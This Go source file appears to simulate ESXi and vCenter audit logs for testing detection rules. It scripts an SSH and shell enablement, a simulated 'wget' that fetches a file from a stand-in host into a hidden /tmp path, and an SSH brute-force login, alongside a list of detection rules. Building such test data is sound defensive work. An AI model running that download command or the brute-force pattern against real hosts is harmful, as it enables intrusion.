package simulator

import (
	"fmt"
	"net/netip"
	"time"
)

// The rules for hosts, vCenters and names that the night shows itself to, by
// their ids.
var (
	ruleSSHEnabled     = Sign{"376364f3-9bb7-4362-8f05-4e5e76276b1e", "SSH enabled"}
	ruleShellEnabled   = Sign{"6f3acf9b-ae77-4ae8-b691-47613ee8aa79", "ESXi Shell enabled"}
	ruleDownload       = Sign{"f97a3904-c890-4a09-bb26-57359768661f", "download to a host"}
	ruleUnchecked      = Sign{"c4568175-d29f-46df-93bb-04cbf196544f", "software installed without its checks"}
	ruleFirewallOpened = Sign{"7b34c192-c308-4e33-9182-1b69bd92b933", "firewall opened by command"}
	ruleLogHost        = Sign{"4bda800a-52fd-4419-b628-baf4e68c2d8e", "log host changed"}
	ruleGuestProgram   = Sign{"709b5627-baa5-4440-bbd4-abc556ae9454", "program run inside a guest"}
	ruleTelegramName   = Sign{"ccea0467-e6ed-44e8-99dd-4738eee68596", "name of a messenger's API asked for"}
	habitClock         = Sign{"behavior.beacon", "regular connections"}
	habitVolume        = Sign{"behavior.volume", "much sent"}
	ruleBruteForce     = Sign{"8f44de32-5816-44e2-ab3a-400318c48b38", "SSH login after many failures"}
)

// ruleManyGuests names the rule for work inside many guests.
const ruleManyGuests = "vcenter_guest_operations_many_guests_event"

// rulesConfig is what the site's admin writes about the rules: that the backup
// product works inside guests.
func rulesConfig() string {
	return fmt.Sprintf("rules:\n  overrides:\n    - {ids: [%s, %s], exclude: [\"{User: svc-backup}\"]}\n", ruleGuestProgram.Analytic, ruleManyGuests)
}

// ruleStories are those that rules find.
func (sc *script) ruleStories() {
	sc.doorsOpened()
	sc.bruteForce()
}

// doorsOpened is a host whose shell and SSH somebody switches on, to fetch a
// program with them.
func (sc *script) doorsOpened() {
	if hostReturns >= len(sc.site.Hosts) {
		return
	}
	begin := sc.clock(23, 40)
	sc.about(hostReturns, Story{
		ID: "doors-opened", Title: "SSH and the shell of a host are switched on", Analytic: ruleSSHEnabled.Analytic, Signs: []Sign{ruleShellEnabled},
	}, func(say func(time.Time, func(*voice) message)) {
		say(begin, func(v *voice) message {
			return v.vob("GenericCorrelator", "esx.audit.ssh.enabled", "SSH access has been enabled.")
		})
		say(begin.Add(20*time.Second), func(v *voice) message {
			return v.vob("GenericCorrelator", "esx.audit.shell.enabled", "The ESXi command line shell has been enabled.")
		})
	})
	from := place{name: "tools.example.net", addr: netip.AddrPortFrom(netip.Addr{}, 80)} // a URL says no address
	a := sc.count(func() {
		sc.says(hostReturns, func(say func(time.Time, func(*voice) message)) {
			say(begin.Add(3*time.Minute), func(v *voice) message { return v.shell("wget -q http://" + from.name + "/enc -O /tmp/.enc") })
		})
	})
	host := sc.site.Hosts[hostReturns]
	sc.publish(Story{
		ID: "tool-fetched", Title: "in the shell of that host a program is fetched from the internet", Host: host.Name, Address: host.Address,
		Verdict: "unjustified", Reason: "destination", Signs: []Sign{ruleDownload},
	}, from, a)
}

// bruteForce is somebody inside who tries passwords at a host until one fits.
func (sc *script) bruteForce() {
	begin := sc.clock(5, 20)
	sc.about(hostLoses, Story{
		ID: "ssh-brute-force", Title: "passwords are tried at a host's SSH until one fits", Analytic: ruleBruteForce.Analytic,
	}, func(say func(time.Time, func(*voice) message)) {
		for i := range 9 {
			say(begin.Add(time.Duration(i)*7*time.Second), func(v *voice) message { return v.sshLogin("Failed", "10.9.0.66", 50300+i) })
		}
		say(begin.Add(75*time.Second), func(v *voice) message { return v.sshLogin("Accepted", "10.9.0.66", 50320) })
	})
}
